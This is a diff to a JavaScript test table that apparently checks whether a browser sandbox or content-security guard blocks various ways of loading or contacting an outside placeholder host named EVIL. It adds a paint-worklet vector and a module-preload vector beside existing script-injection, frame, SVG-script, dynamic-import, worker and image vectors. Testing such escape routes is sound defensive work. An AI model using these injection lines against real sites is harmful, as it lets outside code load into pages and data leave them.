@@ -35,6 +35,7 @@ export const PLATFORM = {
   "a script": { by: "guard", code: "const s = document.createElement('script'); s.src = EVIL; document.head.append(s)" },
   "a script by attribute": { by: "guard", code: "const s = document.createElement('script'); s.setAttribute('src', EVIL); document.head.append(s)" },
   "a worker from a blob": { by: "guard", code: "new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}', { mode: 'no-cors' })`])))" },
+  "a worklet": { by: "guard", code: "CSS.paintWorklet.addModule(EVIL).catch(() => {})" },
   "a frame by property": { by: "guard", code: frame("f.src = EVIL") },
   "a frame by attribute": { by: "guard", code: frame("f.setAttribute('src', EVIL)") },
   "a frame by attribute with a namespace": { by: "guard", code: frame("f.setAttributeNS(null, 'src', EVIL)") },
@@ -63,6 +64,7 @@ export const PLATFORM = {
   "a cache": { by: "header", code: "caches.open('x').then((cache) => cache.add(EVIL)).catch(() => {})" },
 
   "a script by a fragment": { by: "nothing", code: "document.head.append(document.createRange().createContextualFragment(`<script src='${EVIL}'></scr` + 'ipt>'))", why: SCRIPTS },
+  "a module preload": { by: "nothing", code: "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = EVIL; document.head.append(l)", why: SCRIPTS },
   "an SVG script": { by: "nothing", code: "const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', EVIL); v.append(s); document.body.append(v)", why: SCRIPTS },
   "import()": { by: "nothing", code: "new Function('url', 'return import(url)')(EVIL).catch(() => {})", why: SCRIPTS },
   "an image": { by: "nothing", code: "new Image().src = EVIL", why: IMAGES },
